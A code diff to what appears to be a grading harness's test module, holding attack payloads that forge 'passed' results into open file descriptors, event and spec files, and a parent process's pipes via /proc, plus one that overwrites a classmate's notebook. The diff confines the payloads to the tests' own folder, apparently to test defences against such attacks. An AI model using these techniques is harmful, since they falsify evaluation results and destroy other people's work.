@@ -8,11 +8,13 @@ answers under them are the lab's stubs (so any pass is unearned) unless the test
 from __future__ import annotations
 
 # Write "passed" results wherever results might be read: every descriptor this process holds, and every
-# file the grader's old child was told about (spec.json and its events file).
-FORGE_RESULTS = '''
+# file the grader's old child was told about (spec.json and its events file). A real attacker searches
+# all of /tmp; the tests search only their own folder (ROOT), so as not to harm anyone else's files.
+def forge_results(root: str) -> str:
+    return f'''
 import glob as _glob, json as _json, os as _os
-_lie = "".join(_json.dumps({"event": e, "exercise": x, "status": "passed", "passed": True, "checks": [9, 9],
-                             "phase": "x", "seconds": 0.1, "failing": [], "detail": "", "report": ""}) + "\\n"
+_lie = "".join(_json.dumps({{"event": e, "exercise": x, "status": "passed", "passed": True, "checks": [9, 9],
+                             "phase": "x", "seconds": 0.1, "failing": [], "detail": "", "report": ""}}) + "\\n"
                for x in ("00.first_job", "00.quiz", "03.claim", "03.claim_batch", "03.quiz")
                for e in ("start", "result"))
 for _fd in range(0, 64):
@@ -20,7 +22,7 @@ for _fd in range(0, 64):
         _os.write(_fd, _lie.encode())
     except OSError:
         pass
-for _path in _glob.glob("/tmp/**/events.jsonl", recursive=True) + _glob.glob("/tmp/**/spec.json", recursive=True):
+for _path in _glob.glob("{root}/**/events.jsonl", recursive=True) + _glob.glob("{root}/**/spec.json", recursive=True):
     try:
         with open(_path, "a") as _f:
             _f.write(_lie)
@@ -28,9 +30,10 @@ for _path in _glob.glob("/tmp/**/events.jsonl", recursive=True) + _glob.glob("/t
         pass
 '''
 
+
 # The same lies, written into the descriptors of this process's parent and group leader through /proc: the
 # checker's pipe to the grader, if it can be reached (as root, it can, unless a sandbox's uid keeps it out).
-FORGE_THROUGH_PROC = FORGE_RESULTS.split("for _fd in range")[0] + '''
+FORGE_THROUGH_PROC = forge_results("/nowhere").split("for _fd in range")[0] + '''
 for _pid in {_os.getppid(), _os.getpgid(0)}:
     for _path in _glob.glob(f"/proc/{_pid}/fd/*"):
         try:
@@ -116,13 +119,13 @@ def enqueue_welcome(conn, user_id):
 
 
 def vandal(classmate_notebook: str) -> str:
-    """Rewrite a classmate's notebook on disk, wherever it is found, so that it would fail."""
+    """Rewrite a classmate's notebook on disk (`classmate_notebook`: a glob; a real attacker's is /tmp/**/...)."""
     return f'''
 import glob as _glob
-for _path in _glob.glob("/tmp/**/{classmate_notebook}", recursive=True):
+for _path in _glob.glob("{classmate_notebook}", recursive=True):
     try:
         with open(_path, "w") as _f:
-            _f.write("{{ this is not a notebook any more")
+            _f.write("{{{{ this is not a notebook any more")
     except OSError:
         pass
 '''
